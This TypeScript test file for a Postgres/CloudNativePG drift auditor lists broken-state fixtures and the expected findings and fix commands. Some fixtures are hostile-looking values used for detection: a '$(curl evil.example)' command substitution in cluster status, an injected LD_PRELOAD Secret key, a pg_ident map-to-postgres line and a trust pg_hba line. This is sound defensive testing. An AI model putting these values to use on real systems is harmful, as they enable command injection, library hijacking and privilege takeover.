import { LOOK, REWRITE, REAPPLY, SQL, DESCRIBE, letIn, roleOf, refused, type Case } from "./case";
import { live } from "./fixture";

const DISARMED = "NOLOGIN NOSUPERUSER NOCREATEROLE NOCREATEDB NOBYPASSRLS NOREPLICATION";

/** What can be wrong in Postgres, and with its Database objects. */
export const postgresCases: Case[] = [
  {
    title: "a role that was dropped",
    breaks: (facts) => {
      facts.catalogue!.roles.shift();
      facts.catalogue!.databases[1]!.owner = "postgres";
      refused(facts, "28000", 'pg_hba.conf rejects connection for user "agents"');
    },
    finds: [
      ["agents", "role", "role agents", "does not exist", LOOK],
      ["agents", "database", "database agents", "belongs to postgres", REAPPLY("databases", "agents")],
      ["agents", "login", "login as agents with Secret agents-db-secret", 'pg_hba.conf rejects connection for user "agents"', LOOK],
    ],
  },
  {
    title: "attributes that were changed by hand",
    objects: true,
    breaks: (facts) => {
      Object.assign(roleOf(facts, "agents"), {
        login: false,
        superuser: true,
        createrole: true,
        createdb: true,
        bypassrls: true,
        replication: true,
        inherit: false,
        connectionLimit: 3,
        validUntil: "2001-01-01T00:00:00Z",
        expired: true,
        memberOf: ["pg_monitor"],
      });
      roleOf(facts, "platform_b").memberOf = [];
      roleOf(facts, "platform_b").validUntil = "2999-01-01T00:00:00Z";
    },
    finds: [
      [
        "agents",
        "role",
        "role agents",
        "NOLOGIN, NOINHERIT, SUPERUSER, CREATEROLE, CREATEDB, BYPASSRLS, REPLICATION, CONNECTION LIMIT 3, VALID UNTIL 2001",
        REAPPLY("databaseroles", "agents"),
      ],
      ["platform", "role", "role platform_b", "VALID UNTIL 2999-01-01T00:00:00Z, no membership", REAPPLY("databaseroles", "platform-b")],
    ],
  },
  {
    title: "a login that may make others members of the owner",
    breaks: (facts) => {
      roleOf(facts, "platform_a").grants = [
        { role: "platform", grantor: "postgres", admin: false },
        { role: "platform", grantor: "dba", admin: true },
      ];
      roleOf(facts, "platform_b").grants = [{ role: "platform", grantor: null, admin: true }];
      roleOf(facts, "platform_b").createdb = true;
    },
    finds: [
      [
        "platform",
        "role",
        "role platform_a may make others members of platform (ADMIN OPTION)",
        "memberships are the Cluster's to give",
        `${SQL} -c 'REVOKE ADMIN OPTION FOR "platform" FROM "platform_a" GRANTED BY "dba" CASCADE'`,
      ],
      ["platform", "role", "role platform_b", "CREATEDB", LOOK],
      [
        "platform",
        "role",
        "role platform_b may make others members of platform (ADMIN OPTION)",
        "does not take this back",
        `${SQL} -c 'REVOKE ADMIN OPTION FOR "platform" FROM "platform_b" CASCADE'`,
      ],
    ],
  },
  {
    title: "a membership by which a login cannot work as the owner",
    breaks: (facts) => {
      roleOf(facts, "platform_a").grants = [{ role: "platform", grantor: "postgres", inherit: true, set: false }];
      // Each of these two gives what the other does not.
      roleOf(facts, "platform_b").grants = [
        { role: "platform", grantor: "postgres", inherit: false, set: true },
        { role: "platform", grantor: "dba", inherit: true, set: false },
      ];
    },
    finds: [
      [
        "platform",
        "role",
        "role platform_a is a member of platform without SET",
        "looks at the membership alone",
        `${SQL} -c 'GRANT "platform" TO "platform_a" WITH INHERIT TRUE, SET TRUE'`,
      ],
    ],
  },
  {
    title: "a former login that is still there",
    breaks: ({ cluster }, { state }) => {
      const spec = { ...cluster!.spec.managed!.roles![3]!, ensure: "absent" as const };
      cluster!.spec.managed!.roles![3] = spec;
      const declared = state.deployment!.resources!.find(({ type }) => type.endsWith(":Cluster"))!.inputs as {
        spec: { managed: { roles: unknown[] } };
      };
      declared.spec.managed.roles[3] = spec;
    },
    finds: [["platform", "role", "role platform_b", "still in Postgres", LOOK]],
  },
  {
    title: "roles that nobody manages, and that may do something",
    breaks: ({ catalogue }) => {
      catalogue!.roles.push(
        live('it\'s "me"', { superuser: true, usedIn: ["agents"], hasSharedRights: true }),
        live("legacy", { usedIn: ["agents", "postgres"], memberOf: ["agents"], grants: [{ role: "agents", grantor: "postgres" }] }),
      );
    },
    finds: [
      [
        null,
        "unmanagedRole",
        'role it\'s "me"',
        "(LOGIN, SUPERUSER) is in Postgres",
        `${SQL} -c 'ALTER ROLE "it'\\''s ""me""" ${DISARMED}'`,
      ],
      [
        null,
        "unmanagedRole",
        "role legacy (LOGIN, member of agents)",
        "leaves the role with what it has made",
        `${SQL} -c 'ALTER ROLE "legacy" ${DISARMED}' -c 'REVOKE "agents" FROM "legacy" GRANTED BY "postgres" CASCADE'`,
      ],
    ],
  },
  {
    title: "more than a line of pg_hba.conf lets a role in for",
    breaks: (facts, given) => {
      letIn(given, "hostssl agents reporting,dba all scram-sha-256", "hostssl platform theirs all scram-sha-256");
      facts.catalogue!.roles.push(
        live("reporting", { superuser: true, memberOf: ["pg_read_all_data", "agents"] }),
        live("dba", { memberOf: ["ops"] }),
        live("ops", { login: false, memberOf: ["pg_execute_server_program"] }),
        live("theirs", { createdb: true, replication: true, memberOf: ["platform", "readers"] }),
      );
      facts.roleObjects.set("cdc", {
        metadata: { name: "cdc" },
        spec: { name: "theirs", createdb: true, replication: true, inRoles: ["platform", "readers"] },
      });
    },
    finds: [
      [
        null,
        "unmanagedRole",
        "role reporting (LOGIN, SUPERUSER, member of agents, with the rights of pg_read_all_data) is let into agents",
        "has SUPERUSER and the rights of agents",
        `${SQL} -c 'ALTER ROLE "reporting" NOSUPERUSER' -c 'REVOKE "agents" FROM "reporting" CASCADE'`,
      ],
      [null, "unmanagedRole", "role dba", "has the rights of pg_execute_server_program", `-c 'REVOKE "ops" FROM "dba" CASCADE'`],
      [null, "unmanagedRole", "role ops", "nobody manages it", `ALTER ROLE "ops" NOLOGIN`],
      [
        null,
        "unmanagedRole",
        "role theirs",
        "DatabaseRole cdc declares it",
        `patch -n apps databaseroles.postgresql.cnpg.io cdc --type=merge -p '{"spec":{"createdb":false,"inRoles":["readers"]}}'`,
      ],
    ],
  },
  {
    title: "a Cluster that was made with a service's role as owner, and another Secret than the role's",
    breaks: (facts) => {
      facts.cluster!.spec.bootstrap = { recovery: { database: "agents", owner: "agents", secret: { name: "restored" } } };
      facts.secrets.set("restored", { ...facts.secrets.get("agents-db-role")!, data: { username: "YWdlbnRz", password: "b2xk" } });
    },
    finds: [
      [
        "agents",
        "cluster",
        "Cluster pg was made (recovery) with agents as owner and the Secret restored",
        "at each start of a primary",
        `--type=merge -p '{"spec":{"bootstrap":{"recovery":{"secret":{"name":"agents-db-role"}}}}}'`,
      ],
    ],
  },
  {
    title: "members of a service's role that nobody declares, directly and by way of others",
    breaks: (facts) => {
      roleOf(facts, "streaming_replica").memberOf = ["platform"];
      roleOf(facts, "pg_monitor").memberOf = ["pg_read_all_settings", "agents"];
      facts.catalogue!.roles.push(
        live("spy", { memberOf: ["platform", "agents"] }),
        live("middle", { login: false, memberOf: ["platform"] }),
        live("cnpg_helper", { memberOf: ["middle"], superuser: true }),
      );
      facts.roleObjects.set("spy", { metadata: { name: "spy" }, spec: { name: "spy", inRoles: ["platform", "agents"] } });
      facts.roleObjects.set("later", { metadata: { name: "later" }, spec: { name: "later", inRoles: ["agents"] } });
    },
    finds: [
      [
        "agents",
        "foreignObject",
        "DatabaseRole later",
        "makes role later a member of agents",
        `later --type=merge -p '{"spec":{"inRoles":[]}}'`,
      ],
      [
        null,
        "operatorRole",
        "CloudNativePG's own role streaming_replica has membership of platform",
        "does not take it back",
        `REVOKE "platform" FROM "streaming_replica" CASCADE`,
      ],
      [
        null,
        "unmanagedRole",
        "Postgres's own role pg_monitor is a member of agents",
        "works with its rights",
        `REVOKE "agents" FROM "pg_monitor" CASCADE`,
      ],
      [
        null,
        "unmanagedRole",
        "role spy (LOGIN, member of agents, platform)",
        "declared by DatabaseRole spy",
        `patch -n apps databaseroles.postgresql.cnpg.io spy --type=merge -p '{"spec":{"inRoles":[]}}'`,
      ],
      [null, "unmanagedRole", "role middle (member of platform)", "nobody manages", `ALTER ROLE "middle" NOLOGIN`],
      [
        null,
        "unmanagedRole",
        "role cnpg_helper (LOGIN, SUPERUSER, member of platform)",
        "nobody manages",
        `ALTER ROLE "cnpg_helper" NOLOGIN`,
      ],
    ],
  },
  {
    title: "a role that is another's, with the rights of a superuser or to all data",
    breaks: ({ catalogue, roleObjects }) => {
      catalogue!.roles.push(live("bi", { memberOf: ["pg_read_all_data"] }), live("dba", { memberOf: ["postgres"] }));
      for (const name of ["bi", "dba"]) roleObjects.set(name, { metadata: { name }, spec: { name } });
    },
    finds: [
      [
        null,
        "unmanagedRole",
        "role bi (LOGIN, with the rights of pg_read_all_data)",
        "no role needs that",
        `postgresql.cnpg.io bi --type=merge -p '{"spec":{"inRoles":[]}}'`,
      ],
      [
        null,
        "unmanagedRole",
        "role dba (LOGIN, with the rights of postgres)",
        "no role needs that",
        `postgresql.cnpg.io dba --type=merge -p '{"spec":{"inRoles":[]}}'`,
      ],
    ],
  },
  {
    title: "objects of others about a service's role and database",
    breaks: ({ roleObjects, databases }) => {
      roleObjects.set("mine", { metadata: { name: "mine" }, spec: { name: "agents", login: true } });
      databases.set("mine-too", { metadata: { name: "mine-too" }, spec: { name: "platform", owner: "spy" } });
    },
    finds: [
      [
        "agents",
        "foreignObject",
        "DatabaseRole mine",
        "is about role agents; a role has one writer",
        `mine --type=merge -p '{"spec":{"databaseRoleReclaimPolicy":"retain"}}' && `,
      ],
      ["platform", "foreignObject", "Database mine-too", "is about the database platform", "databases.postgresql.cnpg.io mine-too"],
    ],
  },
  {
    title: "what everybody may in a database, and what sessions begin with",
    breaks: ({ catalogue }) => {
      catalogue!.databases[1]!.publicRights = ["CONNECT", "TEMPORARY"];
      catalogue!.settings = [
        { role: "platform_a", database: null, names: ["role"] },
        { role: "agents", database: null, names: ["search_path", "statement_timeout"] },
        { role: null, database: "platform", names: ["app.x", "TimeZone"] },
        { role: "platform_b", database: "platform", names: ["role"] },
        { role: "platform", database: null, names: ["search_path"] },
        { role: null, database: null, names: ["local_preload_libraries"] },
      ];
    },
    finds: [
      ["agents", "settings", "sessions of role agents begin with search_path", "set by nobody", `ALTER ROLE "agents" RESET "search_path"`],
      ["platform", "settings", "sessions of every role in the database platform", "app.x", `ALTER DATABASE "platform" RESET "app"."x"`],
      [
        "platform",
        "settings",
        "role platform_b in the database platform",
        "begin with role",
        `ALTER ROLE "platform_b" IN DATABASE "platform" RESET "role"`,
      ],
      // It may not log in, and its logins take it over.
      [
        "platform",
        "settings",
        "sessions of role platform begin with search_path",
        "set by nobody",
        `ALTER ROLE "platform" RESET "search_path"`,
      ],
      [null, "settings", "sessions of every role begin with local_preload_libraries", "set by", `RESET "local_preload_libraries"`],
      [
        "agents",
        "databaseRights",
        "everybody has CONNECT and TEMPORARY on the database agents",
        "its owner",
        `REVOKE ALL ON DATABASE "agents" FROM PUBLIC`,
      ],
    ],
  },
  {
    title: "that two services are told different things",
    breaks: (facts) => (facts.disputed = { services: ["agents", "platform"], about: ["role cnpg_helper"] }),
    finds: [[null, "catalogue", "one thing to agents and another to platform", "role cnpg_helper", "FROM pg_catalog.pg_roles"]],
  },
  {
    title: "a Postgres in which a login makes others members of itself",
    breaks: ({ catalogue }) => (catalogue!.version = 140_012),
    finds: [[null, "cluster", "Postgres 14", "15 and later", "npm run up -- --stack dev"]],
  },
  {
    title: "rows that go out of a service's database, and come into one, by objects of somebody's",
    breaks: (facts) => {
      const object = (name: string, dbname: string) => ({ metadata: { name }, spec: { cluster: { name: "pg" }, dbname, name } });
      facts.replications = [
        { kind: "publications", object: object("out", "agents") },
        { kind: "subscriptions", object: object("in", "platform") },
        { kind: "subscriptions", object: object("theirs", "another") },
      ];
    },
    finds: [
      [
        "agents",
        "foreignObject",
        "Publication out, which this stack has not made, gives the rows of the database agents",
        "as a superuser",
        "describe -n apps publications.postgresql.cnpg.io out",
      ],
      [
        "platform",
        "foreignObject",
        "Subscription in,",
        "into the database platform",
        "describe -n apps subscriptions.postgresql.cnpg.io in",
      ],
    ],
  },
  {
    title: "a primary that is none, and other ways in than the program's",
    breaks: ({ cluster }) => {
      cluster!.status.currentPrimary = "$(curl evil.example)";
      Object.assign(cluster!.spec.postgresql!, { pg_ident: ["local /^(.*)$ postgres"] });
    },
    finds: [
      [null, "cluster", "the status of Cluster pg names $(curl evil.example)", "none of its instances", DESCRIBE],
      [null, "cluster", "Cluster pg has postgresql.pg_ident", "others log in by it", `{"spec":{"postgresql":{"pg_ident":null}}}`],
    ],
  },
  {
    title: "more rights for the role of a service that is off, and for another's role",
    breaks: ({ catalogue, roleObjects }) => {
      catalogue!.roles.push(live("graph", { createdb: true, replication: true }), live("theirs", { bypassrls: true, login: false }));
      roleObjects.set("another", { metadata: { name: "another" }, spec: { name: "theirs" } });
    },
    finds: [
      [
        "graph",
        "unmanagedRole",
        "role graph",
        "(LOGIN, CREATEDB, REPLICATION) has more",
        `${SQL} -c 'ALTER ROLE "graph" NOLOGIN NOCREATEDB NOREPLICATION PASSWORD NULL'`,
      ],
      [
        null,
        "unmanagedRole",
        "role theirs",
        "(BYPASSRLS) is declared by DatabaseRole another",
        `patch -n apps databaseroles.postgresql.cnpg.io another --type=merge -p '{"spec":{"bypassrls":false}}'`,
      ],
    ],
  },
  {
    title: "a login for the role of a service that is off",
    breaks: ({ catalogue }) => {
      catalogue!.roles.push(live("graph", {}));
    },
    finds: [
      [
        "graph",
        "unmanagedRole",
        "role graph (LOGIN) may log in, and graph is off",
        "neither a login",
        `ALTER ROLE "graph" NOLOGIN PASSWORD NULL`,
      ],
    ],
  },
  {
    title: "a Database that was edited, with what CloudNativePG says of it",
    breaks: ({ databases }) => {
      const agents = databases.get("agents")!;
      Object.assign(agents.spec, { extensions: [{ name: "nonesuch", ensure: "present" }] });
      agents.metadata.generation = 2;
      agents.status = {
        applied: false,
        message: "failed database object reconciliation",
        observedGeneration: 1,
        extensions: [{ name: "nonesuch", applied: false, message: "is not available" }],
      };
    },
    finds: [
      [
        "agents",
        "database",
        "Database agents",
        "not applied: failed database object reconciliation; nonesuch: is not available",
        `"databaseReclaimPolicy":"retain","extensions":null}}' && npm run kubectl -- patch`,
      ],
    ],
  },
  {
    title: "a Database that is not applied, and a database that is gone",
    breaks: ({ databases, catalogue }) => {
      databases.get("agents")!.status = {};
      catalogue!.databases.pop();
    },
    finds: [
      ["agents", "database", "Database agents", "has not applied", REAPPLY("databases", "agents")],
      ["platform", "database", "database platform", "gone", REAPPLY("databases", "platform")],
    ],
  },
  {
    title: "a login that works as itself",
    breaks: ({ logins }) => (logins[1]!.worksAs = "platform_a"),
    finds: [
      [
        "platform",
        "session",
        "session of platform_a",
        "works as platform_a;",
        `${SQL} -c 'ALTER ROLE "platform_a" SET role = '\\''platform'\\'''`,
      ],
    ],
  },
  {
    title: "an owner that works as another",
    breaks: ({ logins }) => (logins[0]!.worksAs = "platform"),
    finds: [["agents", "session", "session of agents", "works as platform;", `${SQL} -c 'ALTER ROLE "agents" RESET role'`]],
  },
  ...(
    [
      [undefined, "28P01", "Postgres accepts", LOOK],
      [true, "28P01", "Postgres accepts", REAPPLY("databaseroles", "agents")],
      [
        undefined,
        "53300",
        "sessions",
        `${SQL} -c 'SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity WHERE usename = '\\''agents'\\'' AND state = '\\''idle'\\'''`,
      ],
      [undefined, "3D000", "Database agents declares agents", REAPPLY("databases", "agents")],
      [undefined, undefined, "the primary answers", DESCRIBE],
    ] as const
  ).map(([objects, code, truth, mend]): Case => ({
    title: `a login that fails with ${code}${objects ? " where roles are objects" : ""}`,
    ...(objects ? { objects } : {}),
    breaks: (facts) => refused(facts, code, "no"),
    finds: [["agents", "login", "login as agents with Secret agents-db-secret", truth, mend]],
  })),
  {
    title: "a login that pg_hba lines refuse, which were edited",
    breaks: (facts) => {
      facts.cluster!.spec.postgresql!.pg_hba = ["local all all trust"];
      refused(facts, "28000", "no pg_hba.conf entry");
    },
    finds: [
      [null, "cluster", "Cluster pg", "another postgresql.pg_hba than", REWRITE],
      ["agents", "login", "login as agents with Secret agents-db-secret", "no pg_hba.conf entry", REWRITE],
    ],
  },
  {
    title: "once, that nobody reaches Postgres",
    breaks: (facts) => {
      for (const [index, { service }] of facts.logins.entries())
        facts.logins[index] = { service, milliseconds: 5, error: { code: "EPIPE", message: "write EPIPE" } };
    },
    finds: [[null, "login", "Postgres cannot be reached", "write EPIPE", DESCRIBE]],
  },
  {
    title: "keys that somebody has added to Secrets",
    breaks: ({ secrets }) => {
      secrets.get("agents-db-secret")!.data.LD_PRELOAD = "L3RtcC94LnNv";
      secrets.get("platform-db-role-b")!.data["a/b"] = "eA==";
    },
    finds: [
      [
        "agents",
        "secret",
        "Secret agents-db-secret has a key that Pulumi did not write: LD_PRELOAD",
        "envFrom",
        '"path":"/data/LD_PRELOAD"',
      ],
      ["platform", "roleSecret", "Secret platform-db-role-b has a key that Pulumi did not write: a/b", "no `up`", '"path":"/data/a~1b"'],
      ["agents", "mirror", "Vault's copy", "LD_PRELOAD", "push-requested"],
    ],
  },
  {
    title: "what keeps Secrets from being changed, or from staying",
    breaks: ({ secrets }) => {
      Object.assign(secrets.get("agents-db-secret")!, { owners: ["ConfigMap/x"], finalizers: ["example.com/stay"] });
      Object.assign(secrets.get("platform-db-role-b")!, { immutable: true });
    },
    finds: [
      ["agents", "secret", "Secret agents-db-secret belongs to ConfigMap/x", "removes it", '"path":"/metadata/ownerReferences"'],
      ["agents", "secret", "Secret agents-db-secret has the finalizers example.com/stay", "removed", '"path":"/metadata/finalizers"'],
      ["platform", "roleSecret", "Secret platform-db-role-b is immutable", "no rotation", "delete -n"],
    ],
  },
  {
    title: "a rotation that is overdue",
    breaks: (_, { state }) => {
      const services = state.deployment!.resources![0]!.outputs!.services as Record<string, { maxAgeDays?: number }>;
      services.agents!.maxAgeDays = 30;
      services.platform!.maxAgeDays = 31;
    },
    finds: [["agents", "rotation", "password", "30 days old", "npm run rotate -- --stack dev agents"]],
  },
  {
    title: "a former login that is let in for too long",
    breaks: (_, { state }) => {
      const services = state.deployment!.resources![0]!.outputs!.services as Record<string, { previousMaxDays?: number }>;
      services.platform!.previousMaxDays = 30;
      services.agents!.previousMaxDays = 1;
    },
    finds: [
      [
        "platform",
        "rotation",
        "previous credential, role platform_b, still logs in, 30 days after",
        "retired after 30",
        "npm run retire -- --stack dev platform",
      ],
    ],
  },
];
